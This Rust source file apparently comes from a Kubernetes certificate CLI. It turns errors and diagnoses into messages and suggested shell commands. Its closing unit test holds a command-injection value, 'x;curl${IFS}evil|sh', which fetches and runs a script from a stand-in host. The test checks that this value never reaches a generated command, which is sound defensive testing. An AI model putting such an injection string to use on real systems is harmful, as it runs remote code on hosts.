//! Errors in words: what went wrong with which thing, and what to do next.

use std::error::Error;
use std::io;
use std::path::Path;

use kubecerts_core::catalog::{CaSlot, Component, FileSlot, Slot};
use kubecerts_core::diagnosis::{Finding, Remedy};
use kubecerts_core::inventory::Place;
use kubecerts_core::issue::IssueError;
use kubecerts_core::path::TreePath;
use kubecerts_core::plan::document::DocumentError;
use kubecerts_core::plan::{
    AuthorityProblem, ClockProblem, ConfiguredNamesError, Deferred, IntentError, InvalidNameChange,
    PlanError, PolicyProblem, Reason, ReviewError,
};
use kubecerts_core::snapshot::ReadProblem;
use kubecerts_core::time::Seconds;
use kubecerts_core::x509::AlternativeName;
use kubecerts_host::disk::{DiskError, LockError};
use kubecerts_host::etcd::{BackupError, EtcdError, NoMember};
use kubecerts_host::measure::MeasureError;
use kubecerts_host::{ApplyError, NodeError, PlantError, PolicyFileError, ScratchError, SessionError};

use crate::args::{Whereabouts, quoted};
use crate::exit::Exit;

mod advice;
mod archive;
mod bulk;
mod explain;
mod external;
mod init;
mod kubelet;
mod trees;

pub(crate) use advice::advice;
use advice::on_node;
pub(crate) use bulk::Rest;
pub(crate) use explain::log_advice;

/// Why a command could not do its work.
#[derive(Debug)]
pub(crate) struct CommandError {
    exit: Exit,
    message: String,
    hints: Vec<Hint>,
}

/// What to do next.
#[derive(Debug)]
struct Hint {
    text: String,
    /// The files of the node that the text is about. Where they lie on this machine is known to [`CommandError::at`].
    files: Vec<TreePath>,
}

impl CommandError {
    /// Returns a failure of the operation.
    pub(crate) fn failed(message: impl Into<String>) -> Self {
        Self { exit: Exit::Failed, message: message.into(), hints: Vec::new() }
    }

    /// Returns a refusal for safety.
    pub(crate) fn refused(message: impl Into<String>) -> Self {
        Self { exit: Exit::Refused, ..Self::failed(message) }
    }

    /// Returns an error in the command line.
    pub(crate) fn usage(message: impl Into<String>) -> Self {
        Self { exit: Exit::Usage, ..Self::failed(message) }
    }

    /// Returns that somebody has ended a run.
    pub(crate) fn interrupted(message: impl Into<String>) -> Self {
        Self { exit: Exit::Interrupted, ..Self::failed(message) }
    }

    /// Adds what to do next.
    pub(crate) fn with_hint(mut self, hint: impl Into<String>) -> Self {
        self.hints.push(Hint { text: hint.into(), files: Vec::new() });
        self
    }

    /// Adds what to do next with `file`, which the hint names as [`FILE`].
    fn with_file_hint(self, hint: &str, file: TreePath) -> Self {
        self.with_files_hint(hint, vec![file])
    }

    /// The same with several files, with blanks between them.
    fn with_files_hint(mut self, hint: &str, files: Vec<TreePath>) -> Self {
        self.hints.push(Hint { text: hint.to_owned(), files });
        self
    }

    /// Makes the commands in the hints act on the same node: one of ours ends with the options that name the node, and any
    /// other one is about the files where they lie on this machine.
    pub(crate) fn at(mut self, whereabouts: &Whereabouts) -> Self {
        for Hint { text, files } in &mut self.hints {
            let files: Vec<String> = files.drain(..).map(|file| whereabouts.file(&file)).collect();
            if !files.is_empty() {
                *text = text.replace(FILE, &files.join(" "));
            }
            let is_command = text.starts_with("kubecerts ") || text.contains(": kubecerts ");
            if is_command && !text.ends_with(&whereabouts.options) {
                text.push_str(&whereabouts.options);
            }
        }
        self
    }

    /// Returns how the program ends.
    pub(crate) const fn exit(&self) -> Exit {
        self.exit
    }

    /// Returns the message.
    pub(crate) fn message(&self) -> &str {
        &self.message
    }

    /// Returns what to do next.
    pub(crate) fn hints(&self) -> impl Iterator<Item = &str> {
        self.hints.iter().map(|hint| hint.text.as_str())
    }

    /// Returns that the file of the node at `path` cannot be read.
    pub(crate) fn of_unreadable(path: &TreePath, problem: &ReadProblem) -> Self {
        Self::failed(format!("{path} cannot be read: {problem}"))
            .with_file_hint("nothing was made; make FILE readable, or run it as root", path.clone())
    }

    /// Returns the refusal of a file that is not a plan, or one that nobody could have made here.
    pub(crate) fn of_document(error: &DocumentError, file: &Path) -> Self {
        let Self { message, .. } = Self::chain(error);
        let refused = Self::refused(format!("{} is not a plan to be carried out: {message}", file.display()));
        match error {
            DocumentError::ApiVersion { .. } => refused
                .with_hint("nothing was changed; make a plan with this version: kubecerts plan --out FILE"),
            _ => refused.with_hint("nothing was changed; make a new plan with: kubecerts plan --out FILE"),
        }
    }

    /// Returns a failure with the whole chain of causes on one line.
    fn chain(error: &dyn Error) -> Self {
        let mut message = error.to_string();
        let mut cause = error.source();
        while let Some(error) = cause {
            message.push_str(": ");
            message.push_str(&error.to_string());
            cause = error.source();
        }
        Self::failed(message)
    }
}

impl From<NodeError> for CommandError {
    fn from(error: NodeError) -> Self {
        let plain = Self::chain(&error);
        match error {
            NodeError::Root(error) => error.into(),
            NodeError::NoDirectory { .. } | NodeError::Directory { .. } => plain
                .with_hint("leave the option out to have the directory read from the static-pod manifests"),
            NodeError::Name { .. } => {
                plain.with_hint("nothing was written; say what the node is called: --node-name NAME")
            }
            NodeError::File { source, .. } if source.kind() == io::ErrorKind::AlreadyExists => {
                plain.with_hint("nothing was changed; name a file that does not exist yet")
            }
            NodeError::File { path, .. } => {
                plain.with_hint(format!("look at it with: ls -l {}", quoted(&path.display().to_string())))
            }
            _ => plain,
        }
    }
}

impl From<PlanError> for CommandError {
    fn from(error: PlanError) -> Self {
        let plain = Self::chain(&error);
        match error {
            PlanError::LeavesRoot { .. } => Self { exit: Exit::Refused, ..plain }.with_hint(
                "nothing was changed; a link may not lead out of --rootfs, replace it by what it points to",
            ),
            PlanError::SharedFile { .. } => Self { exit: Exit::Refused, ..plain }.with_hint(
                "nothing was changed; give each a file of its own in the flags of the manifests, see: kubecerts doctor",
            ),
            PlanError::Contradictions(contradictions) => init::contradictions(&contradictions, None),
            PlanError::Intent { .. } => Self { exit: Exit::Usage, ..plain }
                .with_hint("nothing was changed; mend the configuration: the name is one line of text"),
            PlanError::Shortens { .. } => Self { exit: Exit::Refused, ..plain }
                .with_hint("nothing was changed; ask for more with --validity, or permit it with --allow-change validity"),
            PlanError::Lifetime(_) => {
                Self { exit: Exit::Usage, ..plain }.with_hint("ask for a span such as --validity 8760h")
            }
            PlanError::Names(_) | PlanError::NamesOfNobody => Self { exit: Exit::Usage, ..plain }
                .with_hint("name the certificates of servers that are to get them, such as: apiserver --add-san NAME"),
            _ => plain,
        }
    }
}

impl From<ReviewError> for CommandError {
    fn from(error: ReviewError) -> Self {
        let refused = Self { exit: Exit::Refused, ..Self::chain(&error) };
        match error {
            ReviewError::Unreadable { path } => {
                refused.with_file_hint("nothing was changed; see why with: ls -l FILE", path)
            }
            ReviewError::Subject { .. }
            | ReviewError::KeyUsages { .. }
            | ReviewError::ExtendedKeyUsages { .. }
            | ReviewError::OtherProfile { .. }
            | ReviewError::Identity { .. }
            | ReviewError::OtherNode { .. }
            | ReviewError::Mode { .. }
            | ReviewError::Unusable { .. }
            | ReviewError::Narrowed { .. } => refused
                .with_hint("nothing was changed; the plan was edited, and no option allows this")
                .with_hint("make a new plan with: kubecerts plan --out FILE"),
            _ => refused.with_hint("nothing was changed; make a new plan with: kubecerts plan --out FILE"),
        }
    }
}

impl From<InvalidNameChange> for CommandError {
    fn from(error: InvalidNameChange) -> Self {
        Self { exit: Exit::Usage, ..Self::chain(&error) }.with_hint(
            "give names without scheme and port, such as k8s.example.com, *.example.com, 10.0.0.1 or fd00::1",
        )
    }
}

impl From<ConfiguredNamesError> for CommandError {
    fn from(error: ConfiguredNamesError) -> Self {
        let usage = Self { exit: Exit::Usage, ..Self::chain(&error) };
        match error {
            ConfiguredNamesError::Plan(error) => error.into(),
            ConfiguredNamesError::NoConfiguration => usage.with_hint(
                "give it with --config; the cluster's own comes from: kubectl -n kube-system get cm kubeadm-config -o yaml",
            ),
            ConfiguredNamesError::Unusable(IntentError::Missing { .. }) => {
                usage.with_hint("nothing on the node says it either; add it to the configuration")
            }
            _ => usage.with_hint("nothing was changed; mend the configuration"),
        }
    }
}

impl From<PolicyFileError> for CommandError {
    fn from(error: PolicyFileError) -> Self {
        let plain = Self::chain(&error);
        match error {
            PolicyFileError::Node(error) => error.into(),
            PolicyFileError::Wrong { path, source } => match source.problem() {
                PolicyProblem::OpenMode(_) => Self { exit: Exit::Refused, ..plain }.with_hint(format!(
                    "nothing was changed; see who has written it, then: chmod go-w {}",
                    quoted(&path.display().to_string())
                )),
                _ => plain.with_hint(
                    "nothing was changed; mend the policy, or go by another one with --policy FILE",
                ),
            },
            _ => plain
                .with_hint("nothing was changed; run it as root, or go by another policy with --policy FILE"),
        }
    }
}

impl From<IssueError> for CommandError {
    fn from(error: IssueError) -> Self {
        let plain = Self::chain(&error);
        match error {
            IssueError::Stale { .. } | IssueError::IssuerChanged(_) => Self { exit: Exit::Refused, ..plain }
                .with_hint("somebody else is changing the tree; plan again with: kubecerts plan"),
            _ => plain.with_hint("nothing was changed"),
        }
    }
}

impl From<ApplyError> for CommandError {
    fn from(error: ApplyError) -> Self {
        match error {
            ApplyError::Session(error) => error.into(),
            ApplyError::Disk(error) => error.into(),
            ApplyError::Clock(problem) => problem.into(),
            ApplyError::Rescan(_) => {
                Self::chain(&error).with_hint("see what is on disk with: kubecerts check")
            }
            _ => Self::chain(&error),
        }
    }
}

impl From<ClockProblem> for CommandError {
    fn from(problem: ClockProblem) -> Self {
        let refused = Self { exit: Exit::Refused, ..Self::chain(&problem) }
            .with_hint("nothing was changed; compare the clock of this node with another one: timedatectl");
        match problem {
            ClockProblem::BehindNewestFile { path, .. } => refused.with_file_hint(
                "if the clock is right, the file comes from one that was not: touch FILE",
                path,
            ),
            _ => refused,
        }
    }
}

impl From<SessionError> for CommandError {
    fn from(error: SessionError) -> Self {
        let refused = Self { exit: Exit::Refused, ..Self::chain(&error) };
        match error {
            SessionError::Disk(error) | SessionError::Lock(LockError::Disk(error)) => error.into(),
            SessionError::Lock(LockError::Held { holder, .. }) => refused.with_hint(match holder {
                Some(holder) => format!(
                    "nothing was changed; wait until it is done, or see what it does: ps -fp {}",
                    holder.process
                ),
                None => "nothing was changed; wait until it is done".to_owned(),
            }),
            _ => refused.with_hint("nothing was changed; wait until it is done"),
        }
    }
}

impl From<BackupError> for CommandError {
    fn from(error: BackupError) -> Self {
        let plain = Self::chain(&error);
        let instead = "leave the option out to go on without etcd; to save it all the same, stop it and copy /var/lib/etcd, \
                       or take a snapshot of another member: etcdctl snapshot save";
        match error {
            BackupError::Files(error) => error.into(),
            BackupError::Member(NoMember::External { .. }) => plain
                .with_hint("nothing was changed; take the snapshot where etcd runs: etcdctl snapshot save"),
            BackupError::Member(NoMember::File { .. }) => plain
                .with_hint("nothing was changed; see what is missing with: kubecerts check")
                .with_hint(instead),
            BackupError::Snapshot(EtcdError::Tls { .. } | EtcdError::Credentials { .. }) => plain
                .with_hint(
                    "nothing was changed; see whether etcd's certificates have expired with: kubecerts check",
                )
                .with_hint(instead),
            _ => plain.with_hint("nothing was changed; see whether etcd runs").with_hint(instead),
        }
    }
}

impl From<DiskError> for CommandError {
    fn from(error: DiskError) -> Self {
        let plain = Self::chain(&error);
        let refused = |plain: Self| Self { exit: Exit::Refused, ..plain };
        let denied = |source: &io::Error| source.kind() == io::ErrorKind::PermissionDenied;
        match error {
            DiskError::Root { .. } => plain.with_hint(
                "--rootfs is the directory that is the node's `/`; leave it out on the node itself",
            ),
            DiskError::Stale { .. } | DiskError::Disturbed { .. } => {
                refused(plain).with_hint("nothing was changed; plan again with: kubecerts plan")
            }
            DiskError::Refused { problem: ReadProblem::LeavesRoot { .. }, .. } => refused(plain)
                .with_hint("nothing was changed; a link may not lead out of --rootfs"),
            DiskError::OpenDirectory { directory, .. } => refused(plain)
                .with_file_hint("nothing was changed; close the directory with: chmod go-w FILE", directory),
            DiskError::NoRoom { directory, .. } => {
                refused(plain).with_file_hint("nothing was changed; make room, see: df -h FILE", directory)
            }
            DiskError::JournalOpen { .. } => refused(plain).with_hint("kubecerts recover-journal"),
            DiskError::JournalDamaged { journal, .. } => refused(plain).with_file_hint(
                "look at it with: cat FILE; if it is of no use, move it away, and compare with: kubecerts backup list",
                journal,
            ),
            DiskError::Foreign { .. } | DiskError::Lost { .. } => refused(plain)
                .with_hint("nothing was changed; see what is in use with: kubecerts check")
                .with_hint("leave every file as it is with: kubecerts recover-journal --abandon")
                .with_hint("then, if need be, put the old files back with: kubecerts rollback"),
            DiskError::Interrupted { replaced, cause, .. } => {
                let cause = Self::chain(&*cause);
                plain
                    .with_hint(format!("it began with: {}", cause.message))
                    .with_hint(format!("these files are still new: {}", list(&replaced)))
                    .with_hint("mend the cause, then run: kubecerts recover-journal")
            }
            DiskError::Unclosed { .. } => plain
                .with_hint("every file is as it was; mend the cause, then run: kubecerts recover-journal"),
            DiskError::Recover { .. } => {
                plain.with_hint("mend the cause, then run it again: kubecerts recover-journal")
            }
            DiskError::State { source, path, .. } if denied(&source) => plain.with_hint(format!(
                "nothing was changed; run it as root, or keep {path} elsewhere with --state-dir"
            )),
            DiskError::Replace { source, path, .. } if denied(&source) => plain.with_file_hint(
                "nothing was changed; run it as root, and see whether it is immutable: lsattr FILE",
                path,
            ),
            DiskError::Replace { source, path, .. } if source.kind() == io::ErrorKind::CrossesDevices => plain
                .with_hint(format!("nothing was changed; {path} is mounted by itself, renew it where it comes from")),
            DiskError::Recoverable { .. } => {
                refused(plain).with_hint("nothing was changed; finish it or roll it back with: kubecerts recover-journal")
            }
            DiskError::Misplaced { .. } => refused(plain)
                .with_hint("nothing was changed; name a directory of its own with --state-dir, or none"),
            DiskError::NoBackup { .. } => plain.with_hint("see what there is with: kubecerts backup list"),
            DiskError::Backup { .. } => {
                plain.with_hint("see which backups are whole with: kubecerts backup verify")
            }
            DiskError::Refused { .. } | DiskError::SameTarget { .. } => {
                refused(plain).with_hint("nothing was changed")
            }
            _ => plain.with_hint("nothing was changed"),
        }
    }
}

impl From<ScratchError> for CommandError {
    fn from(error: ScratchError) -> Self {
        Self::chain(&error).with_hint("set TMPDIR to a directory that can be written")
    }
}

impl From<MeasureError> for CommandError {
    fn from(error: MeasureError) -> Self {
        // Nothing of the caller's goes into a measurement but random bytes.
        Self::chain(&error).with_hint(
            "nothing was written; see whether the system gives random bytes with: od -N 16 /dev/urandom",
        )
    }
}

impl From<PlantError> for CommandError {
    fn from(error: PlantError) -> Self {
        match &error {
            PlantError::NotThisHost => Self::usage(error.to_string())
                .with_hint("leave out --rootfs, and run it on the node whose programs are meant"),
            _ => Self::chain(&error).with_hint(
                "name the socket with --cri-socket, or restart by moving manifests: --runtime manifest",
            ),
        }
    }
}

/// Returns what to do about `finding`, if there is anything.
pub(crate) fn remedy(finding: &Finding, whereabouts: &Whereabouts) -> Option<String> {
    mend(&finding.remedy, finding.path.as_ref(), whereabouts)
}

/// Returns the command or the words of `remedy`, of a finding that the file `shown_by` shows.
fn mend(remedy: &Remedy, shown_by: Option<&TreePath>, whereabouts: &Whereabouts) -> Option<String> {
    let file = |path| whereabouts.file(path);
    Some(match remedy {
        Remedy::Renew(slot) => format!("kubecerts renew {slot}{}", whereabouts.options),
        Remedy::AddNames(slot, names) => {
            // The names may be from a certificate of another node: what --add-san does not take is not offered.
            let names = names.iter().filter(|name| matches!(name, AlternativeName::Dns(_) | AlternativeName::Ip(_)));
            let names = names.map(AlternativeName::host).filter(|name| AlternativeName::parse_host(name).is_ok());
            let names = names.map(|name| format!(" --add-san {}", quoted(&name))).collect::<String>();
            if names.is_empty() {
                return None;
            }
            format!("kubecerts renew {slot}{names}{}", whereabouts.options)
        }
        Remedy::RotateAuthority(ca) => {
            format!("give the authority {ca} a later end, nothing that it signs can outlive it: kubecerts ca extend {ca}{}", whereabouts.options)
        }
        Remedy::ReplaceKey(ca) => format!(
            "{ca} needs a new key, and all that it has signed new certificates: no command does that on a cluster that runs \
             (ca extend keeps the key), see docs/ca.md"
        ),
        Remedy::SignElsewhere(ca) => format!("have certificates signed where the key of {ca} is kept"),
        Remedy::Restore(name) => restore(*name, whereabouts),
        Remedy::RestorePair(slot) => {
            format!("put {} back, both of one pair, from a backup or from another control-plane node", pair(*slot))
        }
        Remedy::TakePair { slot, from, reissue, .. } => take_pair(*slot, from, reissue, whereabouts),
        Remedy::RestoreFile(path) => format!("put {} back from a backup", file(path)),
        Remedy::CopyBack(files) => {
            let copied = files.iter().map(|(from, to)| format!("cp -p {} {}", file(from), file(to)));
            format!("put the earlier pair back: {}", copied.collect::<Vec<_>>().join(" && "))
        }
        Remedy::Recover => on_node("kubecerts recover", whereabouts),
        Remedy::GrantAccess(_) => "run it as root".to_owned(),
        Remedy::Repair(path) => format!("repair {}", file(path)),
        Remedy::RepairManifest(path) => format!("repair {}, or move it out of its directory", file(path)),
        Remedy::Inspect(path) => format!("kubecerts inspect {}", file(path)),
        Remedy::SetMode(path, mode) => format!("chmod {mode:04o} {}", file(path)),
        Remedy::SetClock => "compare the clock of this node with another one: timedatectl".to_owned(),
        Remedy::ReferToRotatedCertificate(path) => {
            format!(
                "let kubelet.conf refer to it, as its file is good: kubecerts kubelet install --pem {}{}",
                file(path),
                whereabouts.options
            )
        }
        Remedy::Restart(component) => format!("kubecerts restart {component}{}", whereabouts.options),
        Remedy::Start(Component::Kubelet) => {
            "start the kubelet, or see why it has ended: systemctl start kubelet, journalctl -u kubelet".to_owned()
        }
        Remedy::Start(component) => format!("see why {component} is not well: its log is under /var/log/pods"),
        // A path is one of the node, whatever its root is here.
        Remedy::SetAuthority(Place::Copy(path)) => {
            format!("kubecerts kubeconfig set-ca --file {}{}", quoted(path.as_str()), whereabouts.options)
        }
        Remedy::SetAuthority(place) => format!("kubecerts kubeconfig set-ca {place}{}", whereabouts.options),
        Remedy::UpdateTrust => format!("kubecerts kubeconfig set-ca{}", whereabouts.options),
        // A kubeconfig may have other contexts, which stay.
        Remedy::RefreshCopy(path) => format!(
            "kubecerts renew --refresh-copies{}; it changes nothing else in {}",
            whereabouts.options,
            file(path)
        ),
        Remedy::ReplaceCopy { copy, source, .. } => format!(
            "replace the certificate in {0} by that of {1}, and its key: cp {1} {0}; then restart what uses the copy",
            file(copy),
            file(source)
        ),
        Remedy::SetOwner { path, uid, gid, mode, .. } => {
            format!("chown {uid}:{gid} {path} && chmod {mode:04o} {path}", path = file(path))
        }
        Remedy::SetFlag(component, values) => {
            let manifest = shown_by.map_or_else(|| format!("the manifest of {component}"), file);
            let flags: Vec<String> =
                values.iter().map(|(flag, value)| quoted(&format!("--{flag}={value}")).to_string()).collect();
            format!("write {} into {manifest}; the kubelet restarts {component}", flags.join(" and "))
        }
        Remedy::SetField(field, value) => format!(
            "write {value} as {field} into {}; then {}",
            shown_by.map_or_else(|| "the kubelet's config.yaml".to_owned(), file),
            on_node("systemctl restart kubelet", whereabouts)
        ),
        Remedy::KeepCertificate { path, number, of, .. } => format!(
            "leave certificate {number} of {of} alone in {0}, and put the others, if they are to be trusted, into a file of their own \
             that --client-ca-file and --root-ca-file name; see: kubecerts inspect {0}",
            file(path)
        ),
        Remedy::ApproveRequest => {
            "see what waits: kubectl get csr; and approve it: kubectl certificate approve NAME".to_owned()
        }
        Remedy::BreakGlass => format!(
            "should it be needed, this makes a credential for an hour that no RBAC locks out: \
             kubecerts kubeconfig break-glass --reason TEXT --out FILE{}",
            whereabouts.options
        ),
        Remedy::MoveAway(path) => {
            format!("move {0} to where nothing looks for it, such as /root: mv -n {0} /root/", file(path))
        }
        Remedy::MoveFilesAway(paths) => format!(
            "other files of the directory are in use; move only what nothing refers to, each with its key: mv -n {} /root/",
            paths.iter().map(|path| format!("{} {}", file(path), whereabouts.file(&key_of(path)))).collect::<Vec<_>>().join(" ")
        ),
        // What a link says is a path of the node, whatever its root is here. What is no link may be the last of its kind.
        Remedy::Relink { link, target, is_file, .. } => {
            let (old, link) = (quoted(&format!("{}.old", whereabouts.plain(link))), file(link));
            let target = quoted(target.as_str());
            let linked = match is_file {
                true => format!("mv -n {link} {old} && ln -s {target} {link}"),
                false => format!("ln -sfn {target} {link}"),
            };
            format!("{linked}; then {}", on_node("systemctl restart kubelet", whereabouts))
        }
        Remedy::MoveAndLink { file: current, target, .. } => format!(
            "mv -n {0} {1} && ln -s {2} {0}; then {3}",
            file(current),
            file(target),
            quoted(target.as_str()),
            on_node("systemctl restart kubelet", whereabouts)
        ),
        Remedy::RestartPods => {
            "restart the pods of this node, or give the API server the earlier key as a second --service-account-key-file \
             until their tokens have turned over"
                .to_owned()
        }
        Remedy::SpreadOut(path) if path.file_name().ends_with(".timer") => format!(
            "give it a delay of its own on each node (systemctl edit {}: RandomizedDelaySec=2h), and let it run: \
             kubecerts renew --restart --yes",
            path.file_name()
        ),
        Remedy::SpreadOut(path) => format!(
            "let {} sleep for a random time or take a lock, and run: kubecerts renew --restart --yes",
            file(path)
        ),
        _ => return None,
    })
}

/// Returns the path of the key beside a certificate of kubeadm's name.
fn key_of(certificate: &TreePath) -> TreePath {
    let key = certificate.as_str().strip_suffix(".crt").map(|stem| format!("{stem}.key"));
    key.and_then(|key| TreePath::parse(&key).ok()).unwrap_or_else(|| certificate.clone())
}

/// Returns the two files of a pair.
fn pair(slot: Slot) -> String {
    match slot {
        Slot::Ca(ca) => format!("{} and {}", FileSlot::CaCertificate(ca), FileSlot::CaKey(ca)),
        Slot::ServiceAccount => {
            format!("{} and {}", FileSlot::ServiceAccountKey, FileSlot::ServiceAccountPublicKey)
        }
        slot => format!("certificate and key of {slot}"),
    }
}

/// Returns how a node comes to have the pair that the others have: first the pair, then what it has to sign, then who reads it.
fn take_pair(slot: Slot, from: &[String], reissue: &[Slot], whereabouts: &Whereabouts) -> String {
    let options = &whereabouts.options;
    let mut text = format!("put {} of {} in place of the files here", pair(slot), from.join(" or "));
    let (kubelets, ours): (Vec<Slot>, Vec<Slot>) =
        reissue.iter().partition(|slot| **slot == Slot::KubeletClient);
    if !ours.is_empty() {
        let names: Vec<String> = ours.iter().map(Slot::to_string).collect();
        text.push_str(&format!(
            "; then re-issue what it has not signed: kubecerts renew {}{options}",
            names.join(" ")
        ));
    }
    if !kubelets.is_empty() {
        text.push_str("; and for the kubelet: kubecerts kubelet credential");
    }
    // Every program that reads the pair was started with the other one.
    let components: &[Component] = match slot {
        Slot::Ca(CaSlot::Etcd) => &[Component::Etcd, Component::ApiServer],
        Slot::Ca(CaSlot::FrontProxy) => &[Component::ApiServer],
        Slot::ServiceAccount => &[Component::ApiServer, Component::ControllerManager],
        _ => &[Component::ApiServer, Component::ControllerManager, Component::Scheduler],
    };
    let names: Vec<&str> = components.iter().map(|component| component.name()).collect();
    text.push_str(&format!(
        "; then {}",
        on_node(&format!("kubecerts restart {}", names.join(" ")), whereabouts)
    ));
    text
}

/// Returns how a file comes back that does not exist. What all control-plane nodes share is on the others as well; what is a
/// node's own is made anew.
fn restore(file: FileSlot, whereabouts: &Whereabouts) -> String {
    let options = &whereabouts.options;
    let config = if options.contains(" --config ") { "" } else { " --config FILE" };
    match file.slot() {
        Slot::Ca(_) | Slot::ServiceAccount => {
            format!("put {file} back from a backup or from another control-plane node")
        }
        Slot::Leaf(leaf) => format!(
            "put {file} back from a backup; or move what is left of the pair away and make it anew: \
             kubecerts init {leaf}{config}{options}"
        ),
        Slot::Kubeconfig(kubeconfig) => format!(
            "put {file} back from a backup; or make it anew: kubecerts init {kubeconfig}{config}{options}"
        ),
        Slot::KubeletClient => format!(
            "make one where the key of ca is: kubecerts kubelet credential --node NAME --out FILE; and put it in place \
             here: kubecerts kubelet install --pem FILE{options}"
        ),
        Slot::KubeletServing => format!("put {file} back from a backup"),
    }
}

/// Returns what would make a deferred renewal possible, if there is anything.
pub(crate) fn deferral(deferred: &Deferred, whereabouts: &Whereabouts) -> Option<String> {
    way_around(deferred.slot(), deferred.reason(), whereabouts)
}

/// Returns what would make possible what `reason` prevents for `slot`, if there is anything.
pub(crate) fn way_around(slot: Slot, reason: &Reason, whereabouts: &Whereabouts) -> Option<String> {
    let file = |path| whereabouts.file(path);
    let options = &whereabouts.options;
    Some(match reason {
        Reason::ExternalAuthority(ca) if slot == Slot::Ca(*ca) => {
            format!("run it where the key of {ca} is kept, and bring the certificate here")
        }
        Reason::ExternalAuthority(_) => format!("ask for it with: kubecerts csr {slot} --out DIR{options}"),
        Reason::AuthorityUnusable(_, AuthorityProblem::Damaged(path, problem)) if is_denied(problem) => {
            format!("make {} readable, or run it as root", file(path))
        }
        Reason::AuthorityUnusable(ca, _) => {
            format!("{ca} has to be mended first, see: kubecerts check{options}")
        }
        Reason::CannotBeExtended { .. } => {
            "ask for more with --validity, or give its authority a new certificate".to_owned()
        }
        Reason::Missing(path) => format!("put {} back from a backup", file(path)),
        Reason::Unreadable(path, _) => format!("make {} readable, or run it as root", file(path)),
        Reason::Damaged(path, _) => format!("see what is left with: kubecerts inspect {}", file(path)),
        Reason::Referenced(path) => format!("renew {} where it came from, or embed it", file(path)),
        Reason::SignedByAnother(issuer) => {
            format!(
                "have {issuer} sign a certificate for the same key and subject with a later end, and put it in its place"
            )
        }
        Reason::NamesNeeded(_) => "if nobody goes by it any more, say so with: --allow-change san".to_owned(),
        Reason::LifetimeShortened { from, .. } => format!(
            "if it is meant, say so with: --allow-change validity; to keep it as it is: --validity {}",
            Seconds::from_days(from.days())
        ),
        Reason::NoKeyToReuse(_) => "leave out --reuse-key".to_owned(),
        Reason::NotRenewable => match slot {
            Slot::Ca(ca) => format!("an authority gets a later end with: kubecerts ca extend {ca}{options}"),
            Slot::ServiceAccount => "it is a key pair and no certificate, and does not expire".to_owned(),
            _ => "the kubelet renews it by itself".to_owned(),
        },
        _ => return None,
    })
}

/// Returns whether `problem`, of which only the text is left, is that somebody who is not root may not read.
fn is_denied(problem: &str) -> bool {
    problem == ReadProblem::PermissionDenied.to_string()
}

/// What stands for the file in a hint that is about one.
const FILE: &str = "FILE";

fn list(items: &[impl ToString]) -> String {
    items.iter().map(ToString::to_string).collect::<Vec<_>>().join(", ")
}

#[cfg(test)]
mod tests {
    use kubecerts_core::catalog::LeafSlot;

    use super::*;

    #[test]
    fn names_of_other_nodes_are_words_of_a_command_or_left_out() {
        let hint = |names: &[AlternativeName]| {
            let remedy = Remedy::AddNames(Slot::Leaf(LeafSlot::ApiServer), names.to_vec());
            mend(&remedy, None, &Whereabouts::default())
        };
        let dns = |name: &str| AlternativeName::Dns(name.to_owned());
        let evil = dns("x;curl${IFS}evil|sh");
        assert_eq!(
            hint(&[evil.clone(), dns("*.example.com"), AlternativeName::Ip([10, 0, 0, 1].into())]).as_deref(),
            Some("kubecerts renew apiserver --add-san '*.example.com' --add-san 10.0.0.1")
        );
        assert_eq!(hint(&[evil, AlternativeName::Uri("spiffe://x".to_owned())]), None);
    }
}
